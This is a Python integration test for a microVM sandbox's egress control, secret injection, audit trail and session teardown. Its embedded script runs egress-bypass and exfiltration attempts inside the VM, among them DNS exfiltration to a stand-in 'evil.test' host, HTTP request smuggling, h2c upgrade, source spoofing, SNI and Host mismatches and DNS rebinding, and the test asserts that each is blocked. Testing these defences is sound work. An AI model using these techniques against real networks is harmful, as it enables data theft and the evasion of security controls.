"""Egress control end to end with a real microVM behind the real API stack (control plane + node agent over
HTTP, SQLite): a secret stored through the API is injected into an allowed HTTPS call made inside the VM and
is nowhere in the VM (environment, disk, QEMU memory); a battery of bypass attempts run inside the same VM is
blocked and each attempt is in the session's audit trail read through the API; a policy update applies to
the running VM; closing the session removes namespace, tap, rules, CA and placeholders.

Every address involved lives in namespaces this test creates (tests.support.outside's
outside world: a DNS server and HTTP(S) "external APIs" under their own CA). One VM, to spare the 2 cores.
"""

from __future__ import annotations

import asyncio
import base64
import itertools
import json
import os
import secrets
import ssl
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from capsa.common.image import GuestImage
from capsa.common.settings import Settings
from capsa.node.egress.audit_log import AuditLog
from capsa.node.egress.broker import EgressBroker
from capsa.node.egress.node_egress import NodeEgress
from capsa.node.egress.secrets import InMemorySecretStore, SecretBox
from capsa.node.egress.service import EgressService
from capsa.node.net.sandbox_net import NetworkManager
from capsa.node.runtime.base import SandboxState
from capsa.node.runtime.qemu import QemuRuntime, QemuSandbox
from tests.support.api_stack import ApiStack
from tests.support.outside import outside_world
from tests.support.resolvers import DnsResolver
from tests.support.scan import file_contains, memory_contains
from tests.support.waits import eventually

pytestmark = [
    pytest.mark.vm,
    pytest.mark.root,
    pytest.mark.timeout(900),
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root for namespaces and nftables"),
]

SECRET = "sk-live-" + secrets.token_hex(20)
SECRET_NAME = "upstream-api-key"


def _policy(extra: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    return {
        "domains": [
            {"domain": "api.allowed.test", "methods": ["GET", "POST", "HEAD"]},
            {"domain": "*.allowed.test", "path_prefixes": ["/v1/", "/echo"]},
            *(extra or []),
        ],
        # Bound by name: the control plane turns it into the secret's id before the node sees it.
        "secrets": [{"secret": SECRET_NAME, "header": "Authorization", "domain": "api.allowed.test",
                     "env": "API_KEY"}],
    }


# Runs inside the VM as root with the session env (API_KEY placeholder, HTTPS_PROXY). Python stdlib only.
# Each attempt records what the sandbox saw; every one of them must fail.
BATTERY = r'''
import base64, json, os, socket, ssl, subprocess, sys, time, urllib.error, urllib.request
WORLD = sys.argv[1]
ph = os.environ["API_KEY"]
proxy = os.environ["HTTPS_PROXY"]                       # http://<gateway>:<port>
gw, proxy_port = proxy.split("//")[1].rsplit(":", 1)
dev = next(d for d in os.listdir("/sys/class/net") if d != "lo")
ctx = ssl.create_default_context()                       # the system bundle, with the sandbox CA in it
out = {}

def attempt(name, fn):
    try:
        out[name] = fn()
    except Exception as e:
        out[name] = "error: " + type(e).__name__ + ": " + str(e)[:200]

def http(url, headers=None, method="GET", data=None):
    req = urllib.request.Request(url, headers=headers or {}, method=method, data=data)
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}),
                                         urllib.request.HTTPSHandler(context=ctx))
    try:
        with opener.open(req, timeout=20) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code

def raw(host, port, payload, tls_name=None, read_all=False):
    s = socket.create_connection((host, port), timeout=10)
    if tls_name is not None:
        s = ctx.wrap_socket(s, server_hostname=tls_name)
    s.sendall(payload)
    data = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
            if not read_all and b"\r\n\r\n" in data:
                break
    except socket.timeout:
        pass
    s.close()
    return data.split(b"\r\n")[0].decode(errors="replace")

def tls_only(host, port, sni):
    c = ssl.create_default_context()
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    s = c.wrap_socket(socket.create_connection((host, port), timeout=10), server_hostname=sni)
    s.close()
    return "handshake completed"

def resolve(name):
    return socket.gethostbyname(name)

def udp(host, port, payload, family=socket.AF_INET, scope=None):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(payload, (host, port) if scope is None else (host, port, 0, scope))
    try:
        return "answer: " + repr(s.recv(512)[:20])
    except socket.timeout:
        return "no answer"
    finally:
        s.close()

def tcp(host, port):
    s = socket.create_connection((host, port), timeout=3)
    s.close()
    return "connected"

def ping(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(2)
    head = bytes([8, 0, 0, 0, 0x12, 0x34, 0, 1]) + b"capsa-ping"
    total = sum(int.from_bytes(head[i:i + 2], "big") for i in range(0, len(head), 2))
    total = (total & 0xFFFF) + (total >> 16)
    s.sendto(head[:2] + ((~total) & 0xFFFF).to_bytes(2, "big") + head[4:], (host, 0))
    try:
        s.recv(1024)
        return "echo reply"
    except socket.timeout:
        return "no answer"

def dns_query(server, name):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
    return udp(server, 53, q)

def spoofed():
    ip = resolve("api.allowed.test")
    subprocess.run(["ip", "addr", "add", "192.0.2.77/32", "dev", dev], check=True)
    try:
        s = socket.socket()
        s.settimeout(3)
        s.bind(("192.0.2.77", 0))
        s.connect((ip, 80))
        return "connected"
    finally:
        subprocess.run(["ip", "addr", "del", "192.0.2.77/32", "dev", dev])

def keepalive_switch():
    s = socket.create_connection((WORLD, 80), timeout=10)       # DNAT-ed to the broker
    s.sendall(b"GET /echo HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n")
    data = b""
    while b"\r\n\r\n" not in data:
        data += s.recv(65536)
    head, _, body = data.partition(b"\r\n\r\n")
    length = next(int(line.split(b":")[1]) for line in head.split(b"\r\n")
                  if line.lower().startswith(b"content-length"))
    while len(body) < length:
        body += s.recv(65536)
    s.sendall(b"GET /echo HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    second = s.recv(65536)
    s.close()
    return head.split(b"\r\n")[0].decode() + " then " + second.split(b"\r\n")[0].decode()

def connect(target):
    return raw(gw, int(proxy_port), f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())

a, b, c, d = (int(x) for x in WORLD.split("."))
label = base64.b32encode(b"exfiltrated-data").decode().rstrip("=").lower()
attempt("direct_ip_http", lambda: http(f"http://{WORLD}/"))
attempt("obfuscated_ip_host", lambda: http("http://api.allowed.test/",
                                           {"Host": str((a << 24) | (b << 16) | (c << 8) | d)}))
attempt("direct_ip_https", lambda: tls_only(WORLD, 443, None))
attempt("forced_ip_disallowed_sni", lambda: tls_only(WORLD, 443, "evil.test"))
attempt("dns_disallowed_name", lambda: resolve("evil.test"))
attempt("dns_exfiltration", lambda: resolve(f"{label}.exfil.evil.test"))
attempt("outside_dns_resolver", lambda: dns_query(WORLD, "api.allowed.test"))
attempt("other_port_outside", lambda: tcp(WORLD, 8000))
attempt("other_port_gateway", lambda: tcp(gw, 22))
attempt("udp_gateway", lambda: udp(gw, 9999, b"hello"))
attempt("icmp_outside", lambda: ping(WORLD))
attempt("icmp_gateway", lambda: ping(gw))
attempt("ipv6", lambda: udp("ff02::1", 9999, b"hello", socket.AF_INET6, socket.if_nametoindex(dev)))
attempt("spoofed_source", spoofed)
attempt("connect_disallowed_host", lambda: connect("evil.test:443"))
attempt("connect_other_port", lambda: connect("api.allowed.test:22"))
attempt("host_sni_mismatch", lambda: raw("api.allowed.test", 443,
        b"GET /echo HTTP/1.1\r\nHost: other.allowed.test\r\n\r\n", tls_name="api.allowed.test"))
attempt("host_switch_keepalive", keepalive_switch)
attempt("h2c_upgrade", lambda: raw(WORLD, 80, b"GET / HTTP/1.1\r\nHost: api.allowed.test\r\n"
        b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n"))
attempt("request_smuggling", lambda: raw(WORLD, 80, b"POST /echo HTTP/1.1\r\nHost: api.allowed.test\r\n"
        b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        b"GET /admin HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n", read_all=True))
attempt("placeholder_other_domain", lambda: http("https://third.allowed.test/echo",
                                                 {"Authorization": "Bearer " + ph}))
attempt("placeholder_other_header", lambda: http("https://api.allowed.test/echo", {"X-Debug": ph}))
attempt("placeholder_in_url", lambda: http("https://api.allowed.test/echo?key=" + ph))
attempt("placeholder_plain_http", lambda: http("http://api.allowed.test/", {"Authorization": "Bearer " + ph}))
attempt("rebind_loopback", lambda: http("https://rebind.allowed.test/v1/x"))
attempt("rebind_metadata", lambda: http("https://metadata.allowed.test/v1/x"))
attempt("disallowed_method", lambda: http("https://api.allowed.test/echo", method="DELETE"))
attempt("disallowed_path", lambda: http("https://third.allowed.test/admin"))
print(json.dumps(out))
'''

ALLOWED = r'''
import json, os, ssl, urllib.request
ctx = ssl.create_default_context()   # no cafile: the sandbox CA must be in the system trust store
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}),
                                     urllib.request.HTTPSHandler(context=ctx))
req = urllib.request.Request("https://api.allowed.test/leak-header",
                             headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
with opener.open(req, timeout=60) as r:
    print(json.dumps({"status": r.status, "body": r.read().decode(), "echo": r.headers.get("x-echo-auth")}))
'''

PLAIN = r'''
import sys, urllib.request, urllib.error
try:
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(sys.argv[1], timeout=20) as r:
        print(r.status)
except urllib.error.HTTPError as e:
    print(e.code)
except Exception as e:
    print(type(e).__name__)
'''


def _deny(events: list[dict[str, Any]], **match: Any) -> Callable[[], bool]:
    def check() -> bool:
        for e in events:
            if e["decision"] != "deny":
                continue
            ok = True
            for key, want in match.items():
                have = e.get(key)
                ok = ok and (want(have) if callable(want) else have == want)
            if ok:
                return True
        return False
    return check


def _has(substring: str) -> Callable[[Any], bool]:
    return lambda value: isinstance(value, str) and substring in value


async def _run(client: httpx.AsyncClient, sid: str, cmd: list[str], limit_s: int = 300) -> dict[str, Any]:
    response = await client.post(f"/v1/sessions/{sid}/commands", json={"cmd": cmd, "timeout": limit_s},
                                 timeout=limit_s + 60)
    assert response.status_code == 200, response.text
    result: dict[str, Any] = response.json()
    return result


async def _audit(client: httpx.AsyncClient, sid: str) -> list[dict[str, Any]]:
    events: list[dict[str, Any]] = []
    cursor: str | None = None
    while True:
        params: dict[str, Any] = {"limit": 200}
        if cursor:
            params["cursor"] = cursor
        page = await client.get(f"/v1/sessions/{sid}/audit", params=params)
        assert page.status_code == 200, page.text
        events += page.json()["items"]
        cursor = page.json()["next_cursor"]
        if cursor is None:
            return events


async def _tenant_chain(api: httpx.AsyncClient) -> list[dict[str, Any]]:
    events: list[dict[str, Any]] = []
    cursor: str | None = None
    while True:
        page = await api.get("/v1/audit", params={"limit": 1000, **({"cursor": cursor} if cursor else {})})
        assert page.status_code == 200, page.text
        events += page.json()["items"]
        cursor = page.json()["next_cursor"]
        if cursor is None:
            return events


def _sh(*argv: str) -> str:
    return subprocess.run(list(argv), check=True, capture_output=True, text=True).stdout


async def test_egress_through_the_api_with_a_real_vm(guest_image: GuestImage, state_dir: Path) -> None:
    octet = 200 + secrets.randbelow(50)
    tmp_path = state = state_dir
    async with outside_world(octet) as world:
        audit = AuditLog()
        store = InMemorySecretStore(SecretBox(os.urandom(32)))
        broker = EgressBroker(secrets=store, sink=audit, resolver=DnsResolver(world.ip),
                              upstream_ssl=ssl.create_default_context(cafile=str(world.ca_file)),
                              allow_networks=[world.net])
        # Its own namespace prefix: the agent's start removes stale namespaces with it, and other tests on
        # this host use the default one.
        manager = NetworkManager(netns_prefix=f"cae{secrets.token_hex(3)}-")
        egress = NodeEgress(EgressService(manager, broker, audit, poll_interval=0.5), store, audit)
        runtime = QemuRuntime(Settings(state_dir=state), accel="auto", accel_cache=False)
        key = base64.b64encode(os.urandom(32)).decode()
        stack = ApiStack(f"sqlite+aiosqlite:///{tmp_path}/capsa.db", runtime, guest_image,  # type: ignore[arg-type]
                         settings={"secret_key": key, "reaper_interval": 0}, egress=egress)
        async with stack:
            tenant = await stack.tenant_key("acme")
            async with stack.client(tenant) as api:
                created = await api.post("/v1/secrets", json={"name": SECRET_NAME, "value": SECRET})
                assert created.status_code == 201, created.text
                secret_id = created.json()["id"]

                response = await api.post("/v1/sessions", json={"policy": _policy(), "env": {"MINE": "1"}})
                assert response.status_code == 201, response.text
                sid = response.json()["id"]
                stored = (await api.get(f"/v1/sessions/{sid}/policy")).json()["policy"]
                assert stored["secrets"][0]["secret"] == secret_id
                assert stack.agent is not None
                (record,) = stack.agent.list()
                sandbox_id = record.id
                net = egress.network(sandbox_id)
                assert net is not None
                placeholder = record.env["API_KEY"]
                assert placeholder != SECRET and record.env["MINE"] == "1"

                # 1. The allowed call: secret injected upstream, redacted on the way back, CA trusted.
                result = await _run(api, sid, ["python3", "-c", ALLOWED])
                assert result["exit_code"] == 0, result["stderr"]
                allowed = json.loads(result["stdout"])
                assert allowed["status"] == 200
                assert json.loads(allowed["body"])["headers"]["authorization"] == "Bearer [REDACTED]"
                assert allowed["echo"] == "Bearer [REDACTED]"  # upstream echoed the real value; redacted
                assert SECRET not in result["stdout"]

                # 2. No byte of the secret in the sandbox: environment, disk, memory.
                dump = await _run(api, sid, ["sh", "-c", "cat /proc/*/environ 2>/dev/null; env; sync"])
                assert SECRET not in dump["stdout"] and placeholder in dump["stdout"]
                vm = record.sandbox
                assert isinstance(vm, QemuSandbox)
                pid = vm.pid
                assert pid is not None
                assert not await asyncio.to_thread(memory_contains, pid, SECRET.encode())
                assert await asyncio.to_thread(memory_contains, pid, placeholder.encode())  # search works
                disk = vm.workdir / "disk.img"
                assert not await asyncio.to_thread(file_contains, disk, SECRET.encode())

                # 3. The battery, inside the VM; each attempt must fail and be in the audit trail.
                result = await _run(api, sid, ["python3", "-c", BATTERY, world.ip], limit_s=600)
                assert result["exit_code"] == 0, result["stderr"]
                seen = json.loads(result["stdout"])
                print(json.dumps(seen, indent=1))
                blocked = {
                    "direct_ip_http": seen["direct_ip_http"] == 403,
                    "obfuscated_ip_host": seen["obfuscated_ip_host"] == 403,
                    "direct_ip_https": str(seen["direct_ip_https"]).startswith("error"),
                    "forced_ip_disallowed_sni": str(seen["forced_ip_disallowed_sni"]).startswith("error"),
                    "dns_disallowed_name": str(seen["dns_disallowed_name"]).startswith("error"),
                    "dns_exfiltration": str(seen["dns_exfiltration"]).startswith("error"),
                    "outside_dns_resolver": seen["outside_dns_resolver"] == "no answer",
                    "other_port_outside": str(seen["other_port_outside"]).startswith("error"),
                    "other_port_gateway": str(seen["other_port_gateway"]).startswith("error"),
                    "udp_gateway": seen["udp_gateway"] == "no answer",
                    "icmp_outside": seen["icmp_outside"] == "no answer",
                    "icmp_gateway": seen["icmp_gateway"] == "no answer",
                    "ipv6": seen["ipv6"] in ("no answer",) or str(seen["ipv6"]).startswith("error"),
                    "spoofed_source": str(seen["spoofed_source"]).startswith("error"),
                    "connect_disallowed_host": " 403 " in str(seen["connect_disallowed_host"]) + " ",
                    "connect_other_port": " 403 " in str(seen["connect_other_port"]) + " ",
                    "host_sni_mismatch": " 421 " in str(seen["host_sni_mismatch"]) + " ",
                    "host_switch_keepalive": "then HTTP/1.1 421" in str(seen["host_switch_keepalive"]),
                    "h2c_upgrade": " 403 " in str(seen["h2c_upgrade"]) + " ",
                    "request_smuggling": " 400 " in str(seen["request_smuggling"]) + " ",
                    "placeholder_other_domain": seen["placeholder_other_domain"] == 403,
                    "placeholder_other_header": seen["placeholder_other_header"] == 403,
                    "placeholder_in_url": seen["placeholder_in_url"] == 403,
                    "placeholder_plain_http": seen["placeholder_plain_http"] == 403,
                    "rebind_loopback": seen["rebind_loopback"] == 403,
                    "rebind_metadata": seen["rebind_metadata"] == 403,
                    "disallowed_method": seen["disallowed_method"] == 403,
                    "disallowed_path": seen["disallowed_path"] == 403,
                }
                assert len(blocked) >= 20
                assert all(blocked.values()), {k: seen[k] for k, ok in blocked.items() if not ok}

                # The drop-counter poller turns nftables counters into events every poll_interval: wait
                # (bounded) until it has counted every class of drop the battery caused.
                drops = ("drop_forward", "drop_tcp", "drop_udp", "drop_icmp", "drop_ipv6", "drop_spoofed")
                counted: dict[str, int] = {}

                async def drops_counted() -> list[dict[str, Any]] | None:
                    events = await _audit(api, sid)
                    counted.update({d: sum(e["count"] for e in events
                                           if e["kind"] == "net" and e["destination"] == d) for d in drops})
                    return events if all(counted.values()) and counted["drop_forward"] >= 3 else None

                events = await eventually(drops_counted, lambda: f"drops counted (got {counted})",
                                          within=30, every=0.5)
                assert all(e["session_id"] == sid and e["sandbox_id"] == sandbox_id for e in events)
                assert SECRET not in json.dumps(events)
                injected = [e for e in events if e["kind"] == "http" and e["secret_ids"] == [secret_id]]
                assert injected and injected[0]["decision"] == "allow"
                assert injected[0]["status"] == 200
                sec = secret_id
                ip_lit = "IP-literal destinations are refused"
                upgrade = "protocol upgrade (h2c, websocket) refused"
                smuggle = "request smuggling: both Content-Length and Transfer-Encoding"
                expected = {
                    "direct_ip_http": _deny(events, kind="http", reason=ip_lit),
                    "direct_ip_https": _deny(events, kind="tls", destination="<no SNI>"),
                    "forced_ip_disallowed_sni": _deny(events, kind="tls", destination="evil.test"),
                    "dns_disallowed_name": _deny(events, kind="dns", destination=_has("evil.test")),
                    "dns_exfiltration": _deny(events, kind="dns", destination=_has("exfil.evil.test")),
                    "outside_dns_resolver": _deny(events, kind="net", destination="drop_forward"),
                    "other_port_gateway": _deny(events, kind="net", destination="drop_tcp"),
                    "udp_gateway": _deny(events, kind="net", destination="drop_udp"),
                    "icmp_gateway": _deny(events, kind="net", destination="drop_icmp"),
                    "ipv6": _deny(events, kind="net", destination="drop_ipv6"),
                    "spoofed_source": _deny(events, kind="net", destination="drop_spoofed"),
                    "connect_disallowed_host": _deny(events, kind="connect", destination="evil.test:443"),
                    "connect_other_port": _deny(events, kind="connect",
                                                reason="CONNECT is only allowed to port 443"),
                    "host_sni_mismatch": _deny(events, kind="http", status=421,
                                               reason=lambda r: "keep-alive" not in (r or "")),
                    "host_switch_keepalive": _deny(events, kind="http", status=421,
                                                   reason=_has("keep-alive")),
                    "h2c_upgrade": _deny(events, kind="http", reason=upgrade),
                    "request_smuggling": _deny(events, kind="http", reason=smuggle),
                    "placeholder_other_domain": _deny(events, kind="http",
                                                      reason=_has("bound to api.allowed.test")),
                    "placeholder_other_header": _deny(events, kind="http",
                                                      reason=f"placeholder of {sec} in header x-debug"),
                    "placeholder_in_url": _deny(events, kind="http",
                                                reason=f"placeholder of {sec} in the URL"),
                    "placeholder_plain_http": _deny(events, kind="http",
                                                    reason=f"placeholder of {sec} over plain HTTP"),
                    "rebind_loopback": _deny(events, kind="http", destination="rebind.allowed.test"),
                    "rebind_metadata": _deny(events, kind="http", destination="metadata.allowed.test"),
                    "disallowed_method": _deny(events, kind="http", method="DELETE"),
                    "disallowed_path": _deny(events, kind="http", path="/admin"),
                }
                missing = [name for name, check in expected.items() if not check()]
                assert not missing, (missing, [e for e in events if e["decision"] == "deny"])
                ip_literal = [e for e in events if e["decision"] == "deny" and e["reason"] == ip_lit]
                # direct_ip_http and obfuscated_ip_host (same reason: the audit log may merge them into one
                # event with a count)
                assert sum(e["count"] for e in ip_literal) >= 2
                forward = sum(e["count"] for e in events if e["destination"] == "drop_forward")
                assert forward >= 3  # outside resolver, other port outside, ICMP outside
                denied = await api.get(f"/v1/sessions/{sid}/audit",
                                       params={"decision": "deny", "limit": 1000})
                assert {e["decision"] for e in denied.json()["items"]} == {"deny"}

                # 4. A policy update applies to the running VM, without a restart.
                before = await _run(api, sid, ["python3", "-c", PLAIN, "http://later.test/"])
                assert before["stdout"].strip() == "URLError"  # not even resolved
                pid_before = vm.pid
                updated = await api.put(f"/v1/sessions/{sid}/policy",
                                        json={"policy": _policy([{"domain": "later.test"}])})
                assert updated.status_code == 200, updated.text
                assert updated.json()["ca_reissued"] is True  # later.test was outside the CA's constraints
                after = await _run(api, sid, ["python3", "-c", PLAIN, "http://later.test/"])
                assert after["stdout"].strip() == "200"
                # The re-issued CA was pushed into the guest: verified HTTPS still works, same placeholder.
                again = await _run(api, sid, ["python3", "-c", ALLOWED])
                assert again["exit_code"] == 0, again["stderr"]
                assert json.loads(again["stdout"])["status"] == 200
                assert stack.agent.get(sandbox_id).env["API_KEY"] == placeholder
                patched = await api.patch(f"/v1/sessions/{sid}/policy",
                                          json={"domains": _policy()["domains"]})
                assert patched.status_code == 200, patched.text
                gone = await _run(api, sid, ["python3", "-c", PLAIN, "http://later.test/"])
                assert gone["stdout"].strip() == "URLError"
                assert vm.pid == pid_before and vm.state == SandboxState.RUNNING  # same VM throughout
                bad = await api.put(f"/v1/sessions/{sid}/policy",
                                    json={"policy": {"domains": [{"domain": "1.2.3.4"}]}})
                assert bad.status_code == 422

                written = await api.put(f"/v1/sessions/{sid}/files/content",
                                        params={"path": "/tmp/audit.txt"}, content=b"audited\n" * 64)
                assert written.status_code == 200, written.text

                # 5. Close: namespace, tap, rules, CA, placeholders and the node's copy of the secret go.
                assert egress.holds_secret(secret_id)
                closed = await api.post(f"/v1/sessions/{sid}/close")
                assert closed.status_code == 200 and closed.json()["state"] == "closed"
                assert await manager.leftovers(net) == []
                assert net.netns not in _sh("ip", "netns", "list")
                assert net.tap not in _sh("ip", "-o", "link")
                with pytest.raises(Exception, match="unknown sandbox"):
                    broker.get(sandbox_id)  # its CA and placeholders are forgotten
                assert not egress.holds_secret(secret_id) and store.ids() == []
                assert egress.network(sandbox_id) is None
                final = await _audit(api, sid)
                assert len(final) >= len(events)

                # 6. The tenant audit chain: one linked stream, create -> commands -> file -> egress -> close.
                chain = await _tenant_chain(api)
                assert [e["id"] for e in chain] == list(range(1, len(chain) + 1))
                assert all(b["prev_hash"] == a["hash"] for a, b in itertools.pairwise(chain))
                mine = [e for e in chain if e["session_id"] == sid]
                kinds = {(e["kind"], e["action"]) for e in mine}
                assert {("session", "create"), ("command", "run"), ("file", "upload"), ("egress", "http"),
                        ("egress", "dns"), ("egress", "net"), ("session", "close")} <= kinds, kinds
                create_request = response.headers["x-request-id"]
                assert ("session", "create") in {(e["kind"], e["action"]) for e in mine
                                                 if e["request_id"] == create_request}
                injected_chain = [e for e in mine if e["kind"] == "egress"
                                  and e["detail"]["secret_ids"] == [secret_id]]
                assert injected_chain and injected_chain[0]["detail"]["decision"] == "allow"
                assert SECRET not in json.dumps(chain)
                egress_count = sum(1 for e in mine if e["kind"] == "egress")
                assert egress_count == len(final)  # every egress event of the session, once
                verified = (await api.get("/v1/audit/verify")).json()
                assert verified["ok"] is True and verified["head"] >= len(chain), verified
